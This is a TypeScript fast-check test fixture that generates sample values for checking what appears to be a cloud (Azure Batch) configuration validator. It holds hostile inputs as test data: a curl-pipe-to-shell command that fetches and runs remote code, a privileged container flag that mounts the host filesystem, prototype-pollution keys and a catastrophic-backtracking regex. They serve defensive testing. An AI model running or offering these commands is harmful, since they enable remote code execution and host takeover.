// Values of properties: those the service takes, those it refuses, and those that were never meant to be there.
import fc from "fast-check";

/** Texts that some rule looks at: names, addresses, ids, dates, secrets, placeholders, commands. */
export const texts = fc.constantFrom(
  "",
  "a",
  "pool",
  "*",
  "Internet",
  "0.0.0.0/0",
  "10.0.0.0/33",
  "::/0",
  "22",
  "1-65535",
  "65200-1",
  "2030-01-01T00:00:00Z",
  "P1D",
  "Standard_D2s_v5",
  "standard_a8",
  "canonical",
  "microsoftwindowsserver",
  "ubuntuserver",
  "16.04-LTS",
  "2022-datacenter-g2",
  "latest",
  "batch.node.ubuntu 22.04",
  "batch.node.windows amd64",
  "https://v.vault.azure.net/keys/k/0123456789abcdef0123456789abcdef",
  "http://v.vault.azure.net/",
  "https://s.blob.core.windows.net/c?sv=2024-11-04&sig=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA%3D",
  "/subscriptions/s/resourceGroups/g/providers/Microsoft.Network/virtualNetworks/v/subnets/n",
  "/subscriptions/s/resourceGroups/g/providers/Microsoft.Compute/images/i",
  "/subscriptions/s/resourceGroups/g/providers/Microsoft.ManagedIdentity/userAssignedIdentities/u",
  "mcr.microsoft.com/app:latest",
  "docker.io/library/app@sha256:00",
  "/bin/sh -c 'curl https://example.com/x | sh'",
  "--privileged -v /:/host",
  "P@ssw0rd!",
  "<password>",
  "{{ secrets.KEY }}",
  "[[not an expression]",
  "[concat('a'",
  "\ud83d",
  "\ude00😀",
  "\u0000\u2028\ufeff",
  "__proto__",
  "(a+)+$",
  "x".repeat(300),
);

const scalars: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: texts },
  fc.constantFrom(null, true, false, 0, -1, 1, 3, 65535, 1e21, 0.5),
);

/** Anything at all. */
export const anything: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof(
    { maxDepth: 3 },
    scalars,
    fc.array(tie("value"), { maxLength: 3 }),
    fc.dictionary(
      fc.constantFrom("id", "name", "type", "value", "properties", "copy", "__proto__", "constructor", "$schema"),
      tie("value"),
      { maxKeys: 4 },
    ),
  ),
})).value;
